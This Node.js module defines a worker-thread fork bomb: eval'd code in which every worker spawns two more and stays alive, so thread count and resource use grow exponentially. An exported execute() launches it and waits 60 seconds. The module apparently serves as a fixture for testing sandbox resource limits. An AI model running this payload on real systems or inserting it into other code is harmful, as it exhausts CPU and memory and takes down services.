import { Worker } from 'node:worker_threads';

const BOMB = `
  const { Worker, workerData } = require('node:worker_threads');
  for (let index = 0; index < 2; index++) new Worker(workerData, { eval: true, workerData }).on('error', () => {});
  setInterval(() => {}, 1000);
`;

export function execute() {
  new Worker(BOMB, { eval: true, workerData: BOMB }).on('error', () => {});
  return new Promise((resolve) => setTimeout(resolve, 60_000));
}
